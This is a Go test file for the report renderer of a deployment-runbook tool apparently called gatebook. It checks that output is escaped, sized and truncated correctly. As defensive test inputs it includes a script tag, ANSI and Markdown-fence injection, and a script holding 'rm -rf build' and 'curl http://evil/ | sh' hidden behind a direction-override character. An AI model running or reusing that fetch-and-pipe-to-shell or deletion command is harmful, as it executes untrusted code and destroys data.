package dossier_test

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/gatebook/gatebook/engine/expr"
	"github.com/gatebook/gatebook/engine/plan"
	"github.com/gatebook/gatebook/engine/report/dossier"
	"github.com/gatebook/gatebook/engine/report/internal/example"
	"github.com/gatebook/gatebook/engine/report/layout"
	"github.com/gatebook/gatebook/engine/review"
	"github.com/gatebook/gatebook/engine/value"
	"github.com/gatebook/gatebook/plugins/sdk"
)

var update = flag.Bool("update", false, "write the golden files anew")

// golden holds a document against the file of its name.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs (-want +got); go test -update writes it anew:\n%s", name, diff)
	}
}

func TestPlan(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	p.Steps[1].Preview = &sdk.Preview{Summary: "would deploy web:2", Changes: []sdk.Delta{{
		Target: "Deployment shop/web", Kind: "Deployment", Op: "update", Diff: "@@ -1,2 +1,2 @@\n spec:\n-  image: web:1\n+  image: web:2\x1b[31m\n",
	}}}
	var b bytes.Buffer
	if err := dossier.Text(&b, p, review.Of(p, nil), layout.Style{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "text", b.Bytes())
}

func TestPlanAsJSON(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	var b bytes.Buffer
	if err := dossier.JSON(&b, p, review.Of(p, nil)); err != nil {
		t.Fatal(err)
	}
	golden(t, "json", b.Bytes())
}

// Whoever reads a plan sees whether the commit that it names has the file that was planned.
func TestPlanSaysWhatItWasMadeOf(t *testing.T) {
	t.Parallel()
	for _, is := range []struct {
		of   *plan.Revision
		want string
	}{
		{nil, ""},
		{&plan.Revision{Commit: "4f1c2d9"}, "commit 4f1c2d9"},
		{&plan.Revision{Commit: "4f1c2d9", Dirty: true}, "commit 4f1c2d9, and the file is changed since"},
		{&plan.Revision{Commit: "4f1c2d9", Dirty: true, Absent: true}, "commit 4f1c2d9, without the file: it is not committed yet"},
		{&plan.Revision{Commit: "4f1c2d9", Dirty: true, Absent: true, Untracked: true}, "commit 4f1c2d9, without the file: git does not track it"},
	} {
		p := example.Plan(t)
		p.Runbook.Revision = is.of
		for name, write := range map[string]func(b *bytes.Buffer) error{
			"text":     func(b *bytes.Buffer) error { return dossier.Text(b, p, review.Of(p, nil), layout.Style{}) },
			"summary":  func(b *bytes.Buffer) error { return dossier.Summary(b, p, review.Of(p, nil), layout.Style{}) },
			"markdown": func(b *bytes.Buffer) error { return dossier.Markdown(b, p, review.Of(p, nil), dossier.MarkdownSize) },
			"html":     func(b *bytes.Buffer) error { return dossier.HTML(b, p, review.Of(p, nil)) },
		} {
			var b bytes.Buffer
			if err := write(&b); err != nil {
				t.Fatal(err)
			}
			text := regexp.MustCompile(`</?[a-z][^>]*>|\*\*`).ReplaceAllString(b.String(), "")
			for _, want := range []string{is.want, "planned by gatebook 0.4.0"} {
				if !regexp.MustCompile(`(?m)^ *` + regexp.QuoteMeta(want) + ` *$`).MatchString(text) {
					t.Errorf("%s does not say %q:\n%.300s", name, want, text)
				}
			}
		}
	}
}

func TestPlanPutsWhatStandsInItsWayFirst(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	step := p.Steps[1]
	step.Gate[0].State = plan.State{Truth: "false", Explain: &expr.Explanation{
		Text: "steps.before.outputs.ready >= 3", Value: "false", State: "value",
		Children: []*expr.Explanation{{Text: "steps.before.outputs.ready", Value: "2", State: "value"}, {Text: "3", Value: "3", State: "value"}},
	}}
	step.Preview = &sdk.Preview{Summary: "would deploy web:2", Blockers: []string{"The registry does not answer."}, Warnings: []string{"It is Friday."}}
	p.Steps[0].PreviewError = "no route to host"
	var b bytes.Buffer
	if err := dossier.Summary(&b, p, review.Of(p, nil), layout.Style{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "problems", b.Bytes())
}

func TestPlanAsMarkdown(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	p.Steps[0].PreviewError = "no route to `host`, says @ops in #12 <b>"
	p.Steps[1].Preview = &sdk.Preview{Summary: "would deploy web:2", Changes: []sdk.Delta{{
		Target: "Deployment shop/web", Kind: "Deployment", Op: "update", Diff: "@@ -1,2 +1,2 @@\n spec:\n-  image: web:1\n+  image: ```web:2\x1b[31m\n",
	}}}
	var b bytes.Buffer
	if err := dossier.Markdown(&b, p, review.Of(p, nil), dossier.MarkdownSize); err != nil {
		t.Fatal(err)
	}
	golden(t, "markdown", b.Bytes())
}

func TestPlanAsHTML(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	p.Steps[0].PreviewError = "no route to <script>alert(1)</script>"
	var b bytes.Buffer
	if err := dossier.HTML(&b, p, review.Of(p, nil)); err != nil {
		t.Fatal(err)
	}
	golden(t, "page", b.Bytes())
	if bytes.Contains(b.Bytes(), []byte("<script")) {
		t.Error("text from outside is markup")
	}
}

// A comment holds only so much: what is left out is said, and nothing is left half open.
func TestMarkdownOfALongPlanFits(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	long := strings.Repeat("+ one more line of what changes\n", 400)
	for i := range 100 {
		step := *p.Steps[1]
		step.ID = fmt.Sprint("upgrade_", i)
		step.Preview = &sdk.Preview{Summary: "would deploy", Changes: []sdk.Delta{{Target: "Deployment shop/web", Kind: "Deployment", Op: "update", Diff: long}}}
		p.Steps = append(p.Steps, &step)
	}
	var b bytes.Buffer
	if err := dossier.Markdown(&b, p, review.Of(p, nil), dossier.MarkdownSize); err != nil {
		t.Fatal(err)
	}
	text := b.String()
	if len(text) > dossier.MarkdownSize || !strings.Contains(text, "are left out here") {
		t.Errorf("%d bytes of at most %d", len(text), dossier.MarkdownSize)
	}
	if open, closed := strings.Count(text, "<details>"), strings.Count(text, "</details>"); open != closed {
		t.Errorf("%d parts are open, %d closed", open, closed)
	}
	if fences := strings.Count(text, "```"); fences%2 != 0 {
		t.Errorf("%d fences", fences)
	}
}

// What is long is cut wherever it stands, and --wide shows all of it there.
func TestLongTextsAreCutEverywhere(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	long := strings.Repeat("node-17.eu.example.com ", 4000) + "last"
	p.Steps[1].Params = value.Object(value.Member{Name: "command", Value: value.List(value.String("deploy"), value.String(long))})
	p.Steps[1].Rollback.Use.Params = p.Steps[1].Params
	p.Steps[1].Preview = &sdk.Preview{Summary: "would run deploy " + long, Changes: []sdk.Delta{{Target: "deploy " + long, Kind: "command", Op: "run"}}}
	p.Steps[1].Gate[0].State = plan.State{Truth: "false", Explain: &expr.Explanation{
		Text: "inputs.nodes == ''", Value: "false", State: "value", Children: []*expr.Explanation{{Text: "inputs.nodes", Value: long, State: "value"}},
	}}
	for name, write := range map[string]func(b *bytes.Buffer) error{
		"text": func(b *bytes.Buffer) error { return dossier.Text(b, p, review.Of(p, nil), layout.Style{Columns: 100}) },
		"summary": func(b *bytes.Buffer) error {
			return dossier.Summary(b, p, review.Of(p, nil), layout.Style{Columns: 100})
		},
		"markdown": func(b *bytes.Buffer) error { return dossier.Markdown(b, p, review.Of(p, nil), dossier.MarkdownSize) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		if b.Len() > 9000 || strings.Contains(b.String(), "last") {
			t.Errorf("%s: %d bytes", name, b.Len())
		}
	}
	var wide bytes.Buffer
	if err := dossier.Text(&wide, p, review.Of(p, nil), layout.Style{Wide: true}); err != nil {
		t.Fatal(err)
	}
	// As parameters of the step and its way back, as what it would run, twice, as what it
	// touches, and as what closes the gate, twice.
	if shown := strings.Count(wide.String(), "last"); shown != 7 {
		t.Errorf("all of it is shown %d times", shown)
	}
}

// A script reads as it runs: a line that follows a comment is no part of it, and what turns
// the direction of writing is seen, in whatever form the plan is.
func TestAScriptReadsAsItRuns(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	script := value.Object(value.Member{Name: "script", Value: value.String("rm -rf build # comment\n\ncurl http://evil/\u202e | sh # " + strings.Repeat("long ", 20) + "\n")})
	p.Steps[1].Params, p.Steps[1].Rollback.Use.Params = script, script
	for name, write := range map[string]func(b *bytes.Buffer) error{
		"text": func(b *bytes.Buffer) error { return dossier.Text(b, p, review.Of(p, nil), layout.Style{}) },
		"folded": func(b *bytes.Buffer) error {
			return dossier.Text(b, p, review.Of(p, nil), layout.Style{Columns: 80})
		},
		"wide": func(b *bytes.Buffer) error { return dossier.Text(b, p, review.Of(p, nil), layout.Style{Wide: true}) },
		"markdown": func(b *bytes.Buffer) error {
			return dossier.Markdown(b, p, review.Of(p, nil), dossier.MarkdownSize)
		},
		"html": func(b *bytes.Buffer) error { return dossier.HTML(b, p, review.Of(p, nil)) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(b.String(), "\u202e") {
			t.Errorf("%s turns the direction of writing", name)
		}
		found, before := 0, ""
		for line := range strings.Lines(b.String()) {
			line = strings.TrimPrefix(strings.Trim(line, " │└├─\n"), "<pre>")
			if strings.HasPrefix(line, `curl http://evil/\u202e | sh # long`) {
				found++
				if before != "" {
					t.Errorf("%s: %q comes before %q", name, before, line)
				}
			}
			if strings.HasPrefix(line, "rm -rf build") && line != "rm -rf build # comment" {
				t.Errorf("%s: %q", name, line)
			}
			before = line
		}
		if found != 2 {
			t.Errorf("%s has the second command %d times as a line of its own:\n%s", name, found, b.String())
		}
	}
}

// A comment holds only so much of anything that a plan may have many of, and has room for
// steps all the same.
func TestMarkdownFitsWhateverIsMuch(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("@long ", 30)
	for name, much := range map[string]func(p *plan.Plan, r *review.Review){
		"nothing": func(*plan.Plan, *review.Review) {},
		"inputs": func(p *plan.Plan, _ *review.Review) {
			var inputs []value.Member
			for i := range 900 {
				inputs = append(inputs, value.Member{Name: fmt.Sprint("i", i), Value: value.String(long)})
			}
			p.Inputs = value.Object(inputs...)
		},
		"connections": func(p *plan.Plan, _ *review.Review) {
			for range 900 {
				p.Connections = append(p.Connections, &plan.Connection{Name: long, Source: long})
			}
		},
		"the rest": func(p *plan.Plan, r *review.Review) {
			for i := range 900 {
				p.Outputs = append(p.Outputs, plan.Binding{Name: fmt.Sprint("o", i), Value: value.String(long)})
				r.Problems = append(r.Problems, review.Problem{Kind: review.Blocked, Step: fmt.Sprint("s", i), Text: long})
				r.Chains = append(r.Chains, review.Chain{Step: fmt.Sprint("s", i), Policy: plan.Rollback, Undo: []string{fmt.Sprint("s", i)}})
				r.Radius = append(r.Radius, review.Objects{Kind: fmt.Sprint("k", i), Op: "update", Targets: []string{long}})
				r.Time.Path = append(r.Time.Path, review.Lasting{Step: fmt.Sprint("s", i), Takes: 1})
			}
			p.Record = p.Outputs
		},
		"titles": func(p *plan.Plan, _ *review.Review) {
			p.Runbook.Title = strings.Repeat(long, 900)
			p.Steps[0].Title = p.Runbook.Title
		},
	} {
		p := example.Plan(t)
		r := review.Of(p, nil)
		much(p, r)
		var b bytes.Buffer
		if err := dossier.Markdown(&b, p, r, dossier.MarkdownSize); err != nil {
			t.Fatal(err)
		}
		if b.Len() > dossier.MarkdownSize {
			t.Errorf("%s: %d bytes of at most %d", name, b.Len(), dossier.MarkdownSize)
		}
		if !strings.Contains(b.String(), "<b>wipe</b>") || !strings.Contains(b.String(), "#### finally, however it went\n") {
			t.Errorf("%s leaves no room for steps", name)
		}
		if open, closed := strings.Count(b.String(), "<details>"), strings.Count(b.String(), "</details>"); open != closed {
			t.Errorf("%s: %d parts are open, %d closed", name, open, closed)
		}
	}
}

// What is known to be skipped is counted as that alone, and is no point of no return.
func TestAStepThatIsSkippedDoesNothing(t *testing.T) {
	t.Parallel()
	p := example.Plan(t)
	for _, i := range []int{2, 3} { // asks, and destroys
		p.Steps[i].When = &plan.Condition{Expr: "inputs.wipe", State: plan.State{Truth: "false"}}
	}
	p, err := plan.New(*p)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := dossier.Text(&b, p, review.Of(p, nil), layout.Style{}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"5 steps: 1 read, 2 change, 2 skipped · ", "\nwipe  exec  destroy, skipped  web.yaml:50:5\n"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("no %q", want)
		}
	}
	for _, wrong := range []string{"question", "point of no return"} {
		if strings.Contains(b.String(), wrong) {
			t.Errorf("%q", wrong)
		}
	}
	if t.Failed() {
		t.Log(b.String())
	}
}

// How taking a step back is tried is said where the runbook says it.
func TestThePlanSaysHowAStepIsTakenBack(t *testing.T) {
	t.Parallel()
	back := &plan.Compensation{Use: &plan.Use{Action: "exec"}, Timeout: 7 * time.Second, Retry: plan.Retry{Attempts: 4, Delay: time.Second, IfExpr: "attempt < 3"}}
	p, err := plan.New(plan.Plan{Steps: []*plan.Step{{ID: "a", Use: plan.Use{Action: "exec", Effect: sdk.Change}, Timeout: time.Minute, Rollback: back}}})
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	if err := dossier.Text(&text, p, review.Of(p, nil), layout.Style{Columns: 200}); err != nil {
		t.Fatal(err)
	}
	if want := "taken back by exec; timeout 7s; up to 4 attempts from 1s apart, if attempt < 3"; !strings.Contains(text.String(), want) {
		t.Errorf("want %q in\n%s", want, text.String())
	}
}
